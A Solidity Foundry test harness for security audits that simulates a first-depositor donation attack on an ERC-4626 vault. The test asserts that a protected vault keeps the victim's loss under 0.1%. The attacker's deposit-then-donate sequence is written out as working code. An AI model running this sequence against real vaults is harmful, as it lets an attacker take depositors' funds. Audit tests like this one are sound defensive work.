// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Test} from "forge-std/Test.sol";
import {IERC20} from "forge-std/interfaces/IERC20.sol";
import {IERC4626} from "forge-std/interfaces/IERC4626.sol";

/// Adapt `_deployVault` and `_deal` to the audited project, then run:
///   forge test --match-contract InflationAttack -vvv
abstract contract InflationAttackBase is Test {
    IERC4626 internal vault;
    IERC20 internal asset;
    address internal attacker = makeAddr("attacker");
    address internal victim = makeAddr("victim");

    function _deployVault() internal virtual returns (IERC4626);
    function _deal(address to, uint256 amount) internal virtual;

    function setUp() public {
        vault = _deployVault();
        asset = IERC20(vault.asset());
    }

    function test_firstDepositorDonation() public {
        uint256 unit = 10 ** vault.decimals();
        uint256 donation = 10_000 * unit;
        uint256 victimDeposit = 20_000 * unit;

        _deal(attacker, donation + 1);
        _deal(victim, victimDeposit);

        vm.startPrank(attacker);
        asset.approve(address(vault), type(uint256).max);
        vault.deposit(1, attacker);
        asset.transfer(address(vault), donation); // direct donation inflates share price
        vm.stopPrank();

        vm.startPrank(victim);
        asset.approve(address(vault), type(uint256).max);
        uint256 shares = vault.deposit(victimDeposit, victim);
        vm.stopPrank();

        uint256 victimValue = vault.convertToAssets(shares);
        emit log_named_uint("victim shares", shares);
        emit log_named_uint("victim value", victimValue);
        // A protected vault keeps the victim within 0.1% of their deposit.
        assertGe(victimValue * 1000, victimDeposit * 999, "victim lost value to donation");
    }
}
